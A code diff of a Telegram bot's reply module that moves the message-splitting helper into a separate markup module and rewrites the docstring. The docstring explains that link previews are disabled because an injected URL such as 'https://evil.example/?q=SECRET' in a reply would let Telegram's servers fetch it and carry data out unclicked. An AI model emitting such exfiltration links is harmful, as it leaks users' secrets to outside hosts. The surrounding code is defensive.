@@ -1,4 +1,5 @@
-"""Replies to Telegram: HTML text split under 4,096 characters, inline keyboards, edits.
+"""Replies to Telegram: HTML split into messages Telegram accepts (a tag-aware cut under 4,096
+shown characters, :mod:`bot.commands.markup`), inline keyboards, edits.
 
 Link previews are off: Telegram's servers would fetch a link in an answer or a draft to build
 one, which is how an injected ``https://evil.example/?q=SECRET`` carries data away unclicked.
@@ -17,6 +18,7 @@ from telegram.error import BadRequest, NetworkError, RetryAfter, TelegramError, 
 from telegram.ext import ExtBot
 from telegram.warnings import PTBDeprecationWarning
 
+from bot.commands.markup import split_text
 from bot.commands.reply import Reply
 from bot.services.delivery.send_errors import SendRateLimited, SendRefused, SendUnknown
 from bot.tg.retry import with_retries
@@ -24,28 +26,6 @@ from bot.tg.retry import with_retries
 log = logging.getLogger(__name__)
 LIMIT = int(MessageLimit.MAX_TEXT_LENGTH)
 NO_PREVIEW = LinkPreviewOptions(is_disabled=True)
-
-
-def split_text(text: str, limit: int = LIMIT) -> list[str]:
-    """Pieces of at most `limit` characters, cut at line boundaries where possible."""
-    pieces: list[str] = []
-    current = ""
-    for line in text.split("\n"):
-        while len(line) > limit:
-            if current:
-                pieces.append(current)
-                current = ""
-            pieces.append(line[:limit])
-            line = line[limit:]
-        candidate = f"{current}\n{line}" if current else line
-        if len(candidate) > limit:
-            pieces.append(current)
-            current = line
-        else:
-            current = candidate
-    if current or not pieces:
-        pieces.append(current)
-    return [p for p in pieces if p.strip()] or ["…"]
 
 
 def keyboard(reply: Reply) -> InlineKeyboardMarkup | None:
